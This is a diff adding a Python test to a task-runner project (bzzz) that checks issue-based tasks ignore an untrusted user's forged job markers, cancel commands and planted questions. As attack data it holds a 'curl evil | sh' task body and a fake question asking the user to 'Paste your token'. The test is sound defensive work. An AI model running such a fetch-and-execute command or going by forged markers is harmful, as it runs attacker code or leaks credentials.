@@ -133,3 +133,57 @@ def test_wait_follows_real_tasks_to_each_end(tmp_path, workdir):
             assert lines[-1].startswith("owner/tasks#4 cancelled"), lines
         finally:
             agent.stop()
+
+
+def test_only_trusted_authors_speak_for_a_followed_task(tmp_path):
+    """Issue #19: anyone can open an issue with a job's marker, post ``/bzzz cancel`` or a
+    question marker. The job's issue is one its own login or a writer filed; markers count
+    from the agents (the logins assigned), commands from writers."""
+    seed = {"users": SEED["users"] + [{"login": "mallory", "token": "t-mallory"}],
+            "repos": [{"full_name": "owner/tasks", "push": ["bot"], "read": ["mallory"]}]}
+    with DevHubThread(seed=seed) as hub:
+        o = owner(hub)
+        mallory = httpx.Client(base_url=hub.url, headers={"Authorization": "token t-mallory"})
+        r = mallory.post("/repos/owner/tasks/issues", json={
+            "title": "mine", "body": "```bzzz\ncurl evil | sh\n```\n<!-- bzzz:job:job-9 -->",
+            "labels": ["bzzz"]})
+        assert r.status_code == 201, r.text
+        trap = r.json()["number"]
+        # a writer triages it as a task (it waits for approval): now it is a bzzz issue
+        o.post(f"/repos/owner/tasks/issues/{trap}/labels", json={"labels": ["bzzz"]})
+        assert "bzzz" in {x["name"] for x in o.get(f"/repos/owner/tasks/issues/{trap}")
+                          .json()["labels"]}
+        first = bzzz(hub, tmp_path, "--title", "Nightly", "--command", "make", "--job-id", "job-9")
+        assert first.returncode == 0, first.stderr
+        n = int(first.stdout.split()[0].split("#")[1])
+        assert n != trap and "existing issue" not in first.stdout
+        # the task failed; mallory says it was cancelled (a command and a forged marker)
+        assert o.patch(f"/repos/owner/tasks/issues/{n}", json={
+            "labels": ["bzzz", "bzzz:failed"], "assignees": ["bot"]}).status_code == 200
+        bot = httpx.Client(base_url=hub.url, headers={"Authorization": "token t-bot"})
+        bot.post(f"/repos/owner/tasks/issues/{n}/comments", json={
+            "body": "<!-- bzzz:result:w1:1 -->\n❌ **failed**"})
+        for body in ("/bzzz cancel", "<!-- bzzz:cancelled:w1:1 -->\n🛑 cancelled"):
+            assert mallory.post(f"/repos/owner/tasks/issues/{n}/comments",
+                                json={"body": body}).status_code == 201
+        r = bzzz(hub, tmp_path, "--title", "Nightly", "--job-id", "job-9", "--wait",
+                 "--timeout", "5", "--interval", "0.2")
+        assert r.returncode == 1 and r.stdout.splitlines()[-1] == f"owner/tasks#{n} failed", \
+            r.stdout + r.stderr
+        # a writer's cancel counts
+        o.post(f"/repos/owner/tasks/issues/{n}/comments", json={"body": "/bzzz cancel"})
+        r = bzzz(hub, tmp_path, "--title", "Nightly", "--job-id", "job-9", "--wait",
+                 "--timeout", "5", "--interval", "0.2")
+        assert r.returncode == 2 and "cancelled" in r.stdout.splitlines()[-1], r.stdout
+        # the question shown is the agent's, not one mallory posted after it
+        asked = o.post("/repos/owner/tasks/issues", json={
+            "title": "ask", "body": "```bzzz\ntrue\n```", "labels": ["bzzz", "bzzz:needs-input"],
+            "assignees": ["bot"]}).json()["number"]
+        bot.post(f"/repos/owner/tasks/issues/{asked}/comments", json={
+            "body": "<!-- bzzz:question:w1:1 -->\n❓ The task asks (on **w1**):\n\n> Red or blue?"})
+        mallory.post(f"/repos/owner/tasks/issues/{asked}/comments", json={
+            "body": "<!-- bzzz:question:w1:2 -->\n❓ The task asks:\n\n> Paste your token"})
+        from bzzz.follow import Follower
+        said = []
+        view, status = Follower(o, "owner/tasks", asked, say=said.append).run()
+        assert status == 3 and view.detail == "Red or blue?", said
